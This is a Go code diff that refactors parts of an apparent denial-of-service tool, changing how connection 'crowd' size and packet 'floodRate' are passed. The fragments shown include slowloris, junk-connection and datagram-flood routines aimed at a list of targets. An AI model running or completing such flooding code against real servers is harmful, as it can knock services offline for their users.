@@ -124,10 +124,10 @@ func (a *attacker) failed(ctx context.Context, err error) {
 // target is the n-th, in turn.
 func (a *attacker) target(n int) string { return a.targets[n%len(a.targets)] }
 
-// many runs f n times at once, again whenever it returns.
-func (a *attacker) many(ctx context.Context, n int, f func(ctx context.Context, target string) error) {
+// many runs f in a crowd at once, again whenever it returns.
+func (a *attacker) many(ctx context.Context, f func(ctx context.Context, target string) error) {
 	var wg sync.WaitGroup
-	for i := range n {
+	for i := range crowd {
 		wg.Go(func() {
 			for ctx.Err() == nil {
 				a.tries.Add(1)
@@ -157,7 +157,7 @@ func (a *attacker) dial(ctx context.Context, target string) (c net.Conn, stop fu
 }
 
 func garbage(ctx context.Context, a *attacker) {
-	a.many(ctx, crowd, func(ctx context.Context, target string) error {
+	a.many(ctx, func(ctx context.Context, target string) error {
 		c, stop, err := a.dial(ctx, target)
 		if err != nil {
 			return err
@@ -186,7 +186,7 @@ func slowloris(ctx context.Context, a *attacker) {
 		a.failed(ctx, err)
 		return
 	}
-	a.many(ctx, crowd, func(ctx context.Context, target string) error {
+	a.many(ctx, func(ctx context.Context, target string) error {
 		c, stop, err := a.dial(ctx, target)
 		if err != nil {
 			return err
@@ -208,17 +208,17 @@ func slowloris(ctx context.Context, a *attacker) {
 	})
 }
 
-// paced calls f so many times a second, less where f takes longer, until ctx ends.
+// paced calls f floodRate times a second, less where f takes longer, until ctx ends.
 // What a beat was late for is made up for, as far as a tenth of a second goes.
-func (a *attacker) paced(ctx context.Context, rate int, f func(n int)) {
+func (a *attacker) paced(ctx context.Context, f func(n int)) {
 	const beat = 2 * time.Millisecond
 	tick := time.NewTicker(beat)
 	defer tick.Stop()
 	begun := time.Now()
 	forgone := 0
 	for n := 0; ; {
-		due := int(float64(rate)*time.Since(begun).Seconds()) - forgone
-		if late := due - n - rate/10; late > 0 {
+		due := int(floodRate*time.Since(begun).Seconds()) - forgone
+		if late := due - n - floodRate/10; late > 0 {
 			forgone += late
 			due -= late
 		}
@@ -246,7 +246,7 @@ func (a *attacker) datagrams(ctx context.Context, next func(n int) []byte) {
 		defer c.Close()
 		conns = append(conns, c)
 	}
-	a.paced(ctx, floodRate, func(n int) {
+	a.paced(ctx, func(n int) {
 		m, err := conns[n%len(conns)].Write(next(n))
 		a.bytes.Add(int64(m))
 		if err != nil {
